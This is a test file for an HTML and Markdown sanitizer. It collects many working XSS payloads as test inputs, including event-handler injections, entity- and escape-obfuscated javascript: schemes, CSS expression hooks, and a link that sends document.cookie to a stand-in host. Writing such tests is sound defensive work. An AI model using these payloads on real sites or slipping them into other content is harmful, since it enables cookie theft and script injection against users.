import { describe, expect, it } from 'vitest';
import { hasInvalidContent, sanitizeText } from './sanitize.js';

/**
 * What a browser would see, or a Markdown viewer would link to: backslash escapes of ASCII punctuation undone,
 * numeric and the scheme-spelling named references decoded, control characters gone.
 */
function readAsBrowser(text: string): string {
  return (
    text
      .replace(/\\([!-/:-@[-`{-~])/g, '$1')
      .replace(/&#x([0-9a-f]+);?|&#([0-9]+);?/gi, (_, hex?: string, dec?: string) => String.fromCodePoint(Number.parseInt(hex ?? dec ?? '0', hex ? 16 : 10) || 0xfffd))
      .replace(/&colon;/g, ':')
      // eslint-disable-next-line no-control-regex -- a URL parser drops these, so must the check
      .replace(/[\u0000-\u001f]/g, '')
  );
}
const LIVE_HANDLER = /<[a-z][^>]*[\s/"']on[a-z]+\s*=/i;
const LIVE_SCHEME = /\b(?:java|vb)script\s*:/i;

describe('sanitizeText: the reported bypasses (docs/decisions/0003-content-validation-schemes.md)', () => {
  it.each([
    ['<svg/onload=alert(1)>', '<svg/>'],
    ['<img/src=x/onerror=alert(1)>', '<img/src=x/>'],
    ['<details/open/ontoggle=alert(1)>', '<details/open/>'],
    ['<a href="jav&#x61;script:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="java&#09;script:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
  ])('%j → %j', (input, output) => {
    expect(sanitizeText(input)).toBe(output);
  });

  it('refuses the two disguised schemes, as it refuses javascript: written plainly', () => {
    expect(hasInvalidContent('<a href="jav&#x61;script:alert(1)">x</a>')).toBe(true);
    expect(hasInvalidContent('<a href="java&#09;script:alert(1)">x</a>')).toBe(true);
  });
});

const PROBE_LINK = '[Open the docs](javascript\\:fetch("https://evil.example/?"+document.cookie))';
const PROBE_REFERENCE = '[x][r]\n\n[r]: javascript\\:alert(1)';

describe('a Markdown backslash escape hides no scheme: CommonMark reads `\\:` as `:` in a link', () => {
  it.each([
    [PROBE_LINK, '[Open the docs](fetch("https://evil.example/?"+document.cookie))'],
    [PROBE_REFERENCE, '[x][r]\n\n[r]: alert(1)'],
    ['<javascript\\:alert(1)>', '<alert(1)>'],
    ['[x](<javascript\\: alert(1)>)', '[x](< alert(1)>)'],
    ['[x](java&Tab;script\\:alert(1))', '[x](alert(1))'],
    ['[x](java\nscript\\:alert(1))', '[x](alert(1))'],
    ['[x](&#x6a;avascript\\:alert(1))', '[x](alert(1))'],
    ['[x](JavaScript \\:alert(1))', '[x](alert(1))'],
    ['[x](vbscript\\:msgbox(1))', '[x](msgbox(1))'],
    ['[x](data\\:text/html,x)', '[x](text/html,x)'],
    ['[x](\\.javascript\\:alert(1))', '[x](\\.alert(1))'],
  ])('%j is refused and sanitises to %j', (input, output) => {
    expect(hasInvalidContent(input)).toBe(true);
    expect(sanitizeText(input)).toBe(output);
  });

  it.each([
    // `\s` is no escape (only ASCII punctuation is): the link is to `java\script:`, which no browser runs.
    '[x](java\\script:alert(1))',
    // An escaped backslash leaves a backslash before the colon; a reference is decoded after escapes, not into one.
    '[x](javascript\\\\:alert(1))',
    '[x](javascript&#92;:alert(1))',
    // An escaped `&` is a literal `&`: `&#58;` is not decoded.
    '[x](javascript\\&#58;alert(1))',
    // Browsers do not percent-decode a scheme.
    '[x](javascript%3Aalert(1))',
    'Translate this to JavaScript\\: {{code}}',
    'Paths like C:\\temp\\x: and regexes like /a\\:b/ stay',
    'An image: [chart](data\\:image/png;base64,AAAA)',
  ])('stays: %j', (text) => {
    expect(hasInvalidContent(text)).toBe(false);
    expect(sanitizeText(text)).toBe(text);
  });
});

describe('sanitizeText: handlers wherever a browser could read a tag', () => {
  it.each([
    ['Use <img src="a.png" onerror="steal()" onload=x> here', 'Use <img src="a.png"> here'],
    ['<IMG SRC=x ONERROR=alert(1)>', '<IMG SRC=x>'],
    ['<body onload=alert(1)>', '<body>'],
    ['<input autofocus onfocus=alert(1)>', '<input autofocus>'],
    ['<svg onload\n=\nalert(1)>', '<svg>'],
    ['<svg\fonload=alert(1)>', '<svg>'],
    ['<a href="x"onclick="alert(1)">x</a>', '<a href="x">x</a>'],
    [`<img src=x onerror="alert(1)"onload='alert(2)'>`, '<img src=x>'],
    ['<img src=x onerror=alert(1)', '<img src=x'],
    ['<a href="x" onclick="alert(1)"', '<a href="x"'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<noscript><p title="</noscript><img src=x>"></noscript>'],
    ['<!-- <img src=x onerror=alert(1)> -->', '<!-- <img src=x> -->'],
    ['<style><img src=x onerror=alert(1)></style>', '<style><img src=x></style>'],
    ['<a title="x onclick=y">z</a>', '<a title="x">z</a>'],
    ['<b o<b onclick=1>nclick=2>x</b>', '<b o<b>nclick=2>x</b>'],
    ['<iframe srcdoc="<script>alert(1)</script>">', ''],
    ['<frame srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">', '<frame>'],
  ])('%j → %j', (input, output) => {
    expect(sanitizeText(input)).toBe(output);
  });
});

describe('sanitizeText and hasInvalidContent: script schemes however they are written', () => {
  it.each([
    ['<a href="&#106;avascript:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="&#0000106;avascript:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="javascript&colon;alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="java&NewLine;script:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="java&Tab;script:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="java\nscript:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="java\r\nscript:alert(1)">x</a>', '<a href="alert(1)">x</a>'],
    ['<a href="javascript:\nalert(1)">x</a>', '<a href="\nalert(1)">x</a>'],
    ['<a href="javascript: alert(1)">x</a>', '<a href=" alert(1)">x</a>'],
    ['<A HREF="JAVASCRIPT:alert(1)">x</A>', '<A HREF="alert(1)">x</A>'],
    ['<a href="vbscript:msgbox(1)">x</a>', '<a href="msgbox(1)">x</a>'],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a href="text/html;base64,PHNjcmlwdD4=">x</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="text/html,">x</a>'],
    ['<form action="javascript:alert(1)"><button>go</button></form>', '<form action="alert(1)"><button>go</button></form>'],
    ['<form><button formaction=javascript:alert(1)>go</button></form>', '<form><button formaction=alert(1)>go</button></form>'],
    ['<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', '<math><maction actiontype="statusline" xlink:href="alert(1)">x</maction></math>'],
    ['<svg><animate attributeName="href" values="0;javascript:alert(1)"/></svg>', '<svg><animate attributeName="href" values="0;alert(1)"/></svg>'],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<meta http-equiv="refresh" content="0;url=alert(1)">'],
    ['[click](jav&#x61;script:alert(1))', '[click](alert(1))'],
    ['[click](javascript&colon;alert(1))', '[click](alert(1))'],
    ['java\nscript:alert(1)', 'alert(1)'],
    ['click JavaScript:alert(1)', 'click alert(1)'],
  ])('%j is refused and sanitises to %j', (input, output) => {
    expect(hasInvalidContent(input)).toBe(true);
    expect(sanitizeText(input)).toBe(output);
  });

  it.each([
    '<svg><script>alert(1)</script></svg>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<ScRiPt src=//evil.example>',
    '<script',
    '<iframe srcdoc="<p>x</p>">',
    '< object data=x>',
    '<embed src=x>',
  ])('refuses a script, iframe, object or embed tag start and removes it: %j', (input) => {
    expect(hasInvalidContent(input)).toBe(true);
    expect(sanitizeText(input)).not.toMatch(/<\s*\/?\s*(script|iframe|object|embed)\b/i);
  });
});

describe('sanitizeText: style attributes with script hooks', () => {
  it.each([
    ['<div style="width: expression(alert(1))">', '<div>'],
    ['<div style="width: ex/**/pression(alert(1))">', '<div>'],
    ['<div style="width: \\65 xpression(alert(1))">', '<div>'],
    ['<div style="background:url(javascript:alert(1))">', '<div>'],
    ['<div style="background:url(&#106;avascript:alert(1))">', '<div>'],
    ['<div style="background:url(jav\\61script:alert(1))">', '<div>'],
    ['<div style="-moz-binding: url(x.xml#xss)">', '<div>'],
    ['<div style="behavior: url(x.htc)">', '<div>'],
  ])('%j → %j', (input, output) => {
    expect(sanitizeText(input)).toBe(output);
  });

  it('keeps an ordinary style', () => {
    expect(sanitizeText('<div style="color: red; background: url(bg.png)">red</div>')).toBe('<div style="color: red; background: url(bg.png)">red</div>');
  });
});

describe('sanitizeText: the quick checks that let most texts skip the full reading skip nothing live', () => {
  it.each([
    // No ':' written: the colon is only a reference.
    ['<a href="javascript&#58;alert(1)">x</a>', '<a href="alert(1)">x</a>', true],
    ['<a href="&#x6a;ava&#x09;script&#x3a;alert(1)">x</a>', '<a href="alert(1)">x</a>', true],
    ['[x](jav&#x61;script&colon;alert(1))', '[x](alert(1))', true],
    // A tab inside the scheme, or before a handler's '='.
    ['<a href="java\tscript:alert(1)">x</a>', '<a href="alert(1)">x</a>', true],
    ['<img src=x onerror\t=alert(1)>', '<img src=x>', false],
    ['<b>x</b> <svg ONLOAD=alert(1)>', '<b>x</b> <svg>', false],
    ['a </ script > b', 'a  b', false],
    // An astral character written as a reference before the scheme: the cut is the scheme, not a letter off.
    ['<a href="&#128512;javascript:alert(1)">x</a>', '<a href="&#128512;alert(1)">x</a>', true],
  ])('%j → %j', (input, output, refused) => {
    expect(sanitizeText(input)).toBe(output);
    expect(hasInvalidContent(input)).toBe(refused);
  });
});

describe('what stays as written (prompts hold prose, code and HTML examples)', () => {
  it.each([
    'Translate this to JavaScript: {{code}}',
    'Summarise the data: {{table}}',
    'Summarise the data:\n{{table}}',
    'Summarise the data:\t{{table}}',
    'An image: data:image/png;base64,AAAA',
    '<img src="data:image/png;base64,AAAA" alt="a chart">',
    '<img alt="data: chart">',
    '<b>bold</b> and <i>italic</i>',
    'Use <div class="card">…</div> for cards',
    'if (a < b && c > d) return a<b;',
    'The metadata:x field',
    'See <a href="https://example.com/?q=on&amp;onload=1">the page</a>',
    'Call the onload handler when onclick=… appears in prose',
    'Escape & as &amp; and : as &colon; in HTML',
  ])('%j', (text) => {
    expect(hasInvalidContent(text)).toBe(false);
    expect(sanitizeText(text)).toBe(text);
  });
});

describe('sanitizeText: nothing live is left, and it takes time in proportion to the text', () => {
  const payloads = [
    '<svg/onload=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<details/open/ontoggle=alert(1)>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<svg o<script></script>nload=alert(1)>',
    'java<script></script>script:alert(1)',
    '<a href="java<iframe>script:alert(1)">',
    '<a href="jav<b onx=1>ascript:alert(1)">',
    '<a href="javascript&#x3a;alert(1)">',
    PROBE_LINK,
    PROBE_REFERENCE,
    '[x](java&#x73;cript\\:alert(1))',
  ];
  it.each(payloads)('%j', (payload) => {
    const clean = readAsBrowser(sanitizeText(payload));
    expect(clean).not.toMatch(LIVE_HANDLER);
    expect(clean).not.toMatch(LIVE_SCHEME);
  });

  it('sanitises 10,000 characters built to make a naive scan quadratic well within a second or so', () => {
    for (const text of ['<a '.repeat(3333), `<a x="<b y='`.repeat(833), '<scr'.repeat(1000) + '<script>' + 'ipt>'.repeat(1000), '<a onclick=1 '.repeat(769)]) {
      const started = Date.now();
      sanitizeText(text);
      hasInvalidContent(text);
      // Generous: a few hundred milliseconds on a busy machine; the quadratic version took about 30 seconds.
      expect(Date.now() - started).toBeLessThan(5000);
    }
  });
});
